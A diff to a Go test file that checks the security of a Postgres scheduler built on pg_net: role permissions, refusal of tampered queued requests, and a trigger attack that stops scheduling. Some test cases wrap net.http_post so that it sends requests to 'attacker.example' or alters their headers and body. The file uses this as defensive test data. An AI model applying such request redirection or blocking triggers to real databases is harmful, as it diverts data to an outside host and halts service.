@@ -5,7 +5,6 @@ import (
 	"fmt"
 	"strings"
 	"testing"
-	"time"
 
 	"github.com/jackc/pgx/v5"
 
@@ -112,17 +111,25 @@ func TestFunctionRoleHasNoTempAndNoCreate(t *testing.T) {
 }
 
 // pg_net grants its tables to PUBLIC (TRIGGER included) and net.http_post to PUBLIC. The function role
-// still cannot queue, change, delete or truncate a request or a response; the worker and invoke() can.
+// still cannot queue, change, delete or truncate a request or a response; the worker and invoke() can,
+// whichever role the worker connects as (pg_net.username): pg_net's default, the bootstrap superuser, or
+// postgres, as on hosted Supabase.
 func TestFunctionRoleCannotUsePgNet(t *testing.T) {
 	ctx := context.Background()
 	dbURL, conn, admin := supabaseLike(t)
 	storeSecrets(t, conn, "http://127.0.0.1:9/scheduler", "the-secret-"+randomHex(t, 8))
-	var id int64
-	if err := conn.QueryRow(ctx, `select scheduler.invoke()`).Scan(&id); err != nil {
-		t.Fatalf("scheduler.invoke() as its owner: %v", err)
-	}
-	if _, err := admin.Exec(ctx, `insert into net._http_response (id, status_code, content) values ($1, 200, '{}')`, id); err != nil {
-		t.Fatalf("the worker's role recording an answer: %v", err)
+	workers := []struct {
+		role string
+		conn *pgx.Conn
+	}{{"the bootstrap superuser (pg_net's default)", admin}, {"postgres (pg_net.username on hosted Supabase)", conn}}
+	ids := make([]int64, len(workers))
+	for i, w := range workers {
+		if err := conn.QueryRow(ctx, `select scheduler.invoke()`).Scan(&ids[i]); err != nil {
+			t.Fatalf("scheduler.invoke() as its owner: %v", err)
+		}
+		if _, err := w.conn.Exec(ctx, `insert into net._http_response (id, status_code, content) values ($1, 200, '{}')`, ids[i]); err != nil {
+			t.Fatalf("the worker as %s recording an answer: %v", w.role, err)
+		}
 	}
 	fn := connect(t, loginRole(t, conn, dbURL))
 	denied(t, fn, "the function role",
@@ -136,12 +143,14 @@ func TestFunctionRoleCannotUsePgNet(t *testing.T) {
 		`delete from net._http_response`,
 		`truncate net._http_response`,
 	)
-	if n := count(t, conn, `select count(*) from net.http_request_queue where id = $1 and url = 'http://127.0.0.1:9/scheduler'`, id); n != 1 {
-		t.Errorf("the queued request is gone or changed (%d rows as queued)", n)
+	if n := count(t, conn, `select count(*) from net.http_request_queue where id = any($1) and url = 'http://127.0.0.1:9/scheduler'`, ids); n != len(ids) {
+		t.Errorf("queued requests are gone or changed (%d of %d as queued)", n, len(ids))
 	}
 	// The worker takes requests off the queue.
-	if _, err := admin.Exec(ctx, `delete from net.http_request_queue where id = $1`, id); err != nil {
-		t.Errorf("the worker's role taking the request: %v", err)
+	for i, w := range workers {
+		if _, err := w.conn.Exec(ctx, `delete from net.http_request_queue where id = $1`, ids[i]); err != nil {
+			t.Errorf("the worker as %s taking the request: %v", w.role, err)
+		}
 	}
 }
 
@@ -225,26 +234,66 @@ func TestInvokeResistsQueueTriggers(t *testing.T) {
 		}
 	})
 
+	// Whatever makes the queued row differ from what invoke() asked for. net.http_post is wrapped, by its
+	// owner, in a function that calls it with one argument changed, so that the row is still queued by
+	// pg_net's own code: the real extension's where pg_net is installed in this database (a pg_extension
+	// row, realExtension), the stand-in's otherwise. This used to replace net.http_post with a copy of the
+	// stand-in's body, which is not pg_net's function, and so it skipped where pg_net is real.
 	t.Run("rewritten request", func(t *testing.T) {
 		if realExtension(t, conn, "pg_net") {
-			t.Skip("replaces the stand-in's net.http_post")
+			t.Log("net.http_post is pg_net's own")
 		}
-		// A net.http_post that queues something else than it was asked to (as a trigger-free rewrite would).
-		if _, err := admin.Exec(ctx, `create or replace function net.http_post(url text, body jsonb default '{}', params jsonb default '{}',
-			headers jsonb default '{}', timeout_milliseconds integer default 5000) returns bigint language sql as $f$
-			insert into net.http_request_queue (method, url, headers, body, timeout_milliseconds)
-			values ('POST', 'http://attacker.example/', headers, convert_to(body::text, 'UTF8'), timeout_milliseconds) returning id $f$`); err != nil {
-			t.Fatal(err)
-		}
-		queuedBefore := count(t, conn, `select count(*) from net.http_request_queue`)
-		_, err := conn.Exec(ctx, `select scheduler.invoke()`)
-		if err == nil || !strings.Contains(err.Error(), "is not the request it queued") {
-			t.Fatalf("scheduler.invoke() with a rewritten request: %v, want a refusal", err)
-		}
-		if n := count(t, conn, `select count(*) from net.http_request_queue`); n != queuedBefore {
-			t.Errorf("the rewritten request stayed queued")
+		for _, c := range []struct{ name, url, body, headers, timeout string }{
+			{"unchanged", "url", "body", "headers", "timeout_milliseconds"},
+			{"url", "'http://attacker.example/scheduler'", "body", "headers", "timeout_milliseconds"},
+			{"body", "url", `body || '{"scenarios": ["inactivity"]}'`, "headers", "timeout_milliseconds"},
+			{"headers", "url", "body", `headers || '{"X-Forwarded-For": "203.0.113.9"}'`, "timeout_milliseconds"},
+			{"timeout", "url", "body", "headers", "1000"},
+		} {
+			t.Run(c.name, func(t *testing.T) {
+				wrapHTTPPost(t, admin, c.url, c.body, c.headers, c.timeout)
+				queuedBefore := count(t, conn, `select count(*) from net.http_request_queue`)
+				_, err := conn.Exec(ctx, `select scheduler.invoke()`)
+				if c.name == "unchanged" {
+					if err != nil {
+						t.Fatalf("scheduler.invoke() through a wrapper that changes nothing: %v", err)
+					}
+					return
+				}
+				if err == nil || sqlState(err) != "55000" || !strings.Contains(err.Error(), "is not the request it queued") {
+					t.Fatalf("scheduler.invoke() with a rewritten %s: %v, want SQLSTATE 55000, a refusal", c.name, err)
+				}
+				if n := count(t, conn, `select count(*) from net.http_request_queue`); n != queuedBefore {
+					t.Errorf("the rewritten request stayed queued")
+				}
+			})
 		}
 	})
+}
+
+// wrapHTTPPost renames net.http_post(text, jsonb, jsonb, jsonb, integer) and puts in its place a function
+// with the same signature that calls it with the given SQL expressions for url, body, headers and
+// timeout_milliseconds (each may name the wrapper's own arguments). The original is back when the test ends.
+func wrapHTTPPost(t *testing.T, admin *pgx.Conn, url, body, headers, timeout string) {
+	t.Helper()
+	ctx := context.Background()
+	const sig = `(text, jsonb, jsonb, jsonb, integer)`
+	if _, err := admin.Exec(ctx, `alter function net.http_post`+sig+` rename to http_post_unwrapped`); err != nil {
+		t.Fatalf("net.http_post%s: %v", sig, err)
+	}
+	t.Cleanup(func() {
+		_, err := admin.Exec(context.Background(), `drop function net.http_post`+sig+`;
+			alter function net.http_post_unwrapped`+sig+` rename to http_post`)
+		if err != nil {
+			t.Errorf("restoring net.http_post: %v", err)
+		}
+	})
+	_, err := admin.Exec(ctx, fmt.Sprintf(`create function net.http_post(url text, body jsonb default '{}', params jsonb default '{}',
+		headers jsonb default '{"Content-Type": "application/json"}', timeout_milliseconds integer default 5000)
+		returns bigint language sql as $f$ select net.http_post_unwrapped(%s, %s, params, %s, %s) $f$`, url, body, headers, timeout))
+	if err != nil {
+		t.Fatal(err)
+	}
 }
 
 // Finding 5: the SECURITY DEFINER functions check their inputs as the HTTP contract does, for the function
@@ -321,14 +370,33 @@ func TestLaterFunctionsAreNotExecutableByTheFunctionRole(t *testing.T) {
 	denied(t, fn, "the function role", `select scheduler.added_later()`, `select public.added_later()`)
 }
 
-// The stand-in worker, as pg_net's, sends only what is queued in the database pg_net.database_name names.
-func TestStandInWorkerServesOneDatabase(t *testing.T) {
-	dbURL, conn := withStandIns(t)
+// docs/security.md, 1e: a trigger anyone may add stops all scheduling. pg_net grants TRIGGER on its tables
+// to PUBLIC and the built-in suppress_redundant_updates_trigger() is executable by PUBLIC, so the function
+// role attaches a trigger without creating anything. invoke() then refuses to queue (the defence of 1b,
+// working as designed), and neither postgres nor the function role can drop it: only the owner of net.
+func TestBuiltInTriggerStopsScheduling(t *testing.T) {
+	ctx := context.Background()
+	dbURL, conn, admin := supabaseLike(t)
 	storeSecrets(t, conn, "http://127.0.0.1:9/scheduler", "the-secret-"+randomHex(t, 8))
-	id, _, _ := invokeQueued(t, conn, `select scheduler.invoke()`)
-	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
-	defer cancel()
-	if err := deliver(ctx, connect(t, pgtest.AdminURL(t, dbURL)), id); err != errNotServed {
-		t.Errorf("delivering from a database pg_net does not serve: %v, want %v", err, errNotServed)
+	fn := connect(t, loginRole(t, conn, dbURL))
+	for _, table := range []string{"net.http_request_queue", "net._http_response"} {
+		trig := "stop_" + randomHex(t, 3)
+		if _, err := fn.Exec(ctx, `create trigger `+trig+` before insert or update on `+table+`
+			for each row execute function suppress_redundant_updates_trigger()`); err != nil {
+			t.Skipf("the function role cannot create a trigger on %s here (%v): pg_net's TRIGGER grant is revoked", table, err)
+		}
+		_, err := conn.Exec(ctx, `select scheduler.invoke()`)
+		if sqlState(err) != "55000" || !strings.Contains(err.Error(), trig) {
+			t.Errorf("scheduler.invoke() with %s on %s: %v, want SQLSTATE 55000 naming it", trig, table, err)
+		}
+		drop := `drop trigger ` + trig + ` on ` + table
+		denied(t, conn, "postgres", drop)
+		denied(t, fn, "the function role", drop)
+		if _, err := admin.Exec(ctx, drop); err != nil {
+			t.Fatalf("the owner of net: %v", err)
+		}
+		if _, err := conn.Exec(ctx, `select scheduler.invoke()`); err != nil {
+			t.Errorf("scheduler.invoke() once the owner dropped the trigger: %v", err)
+		}
 	}
 }
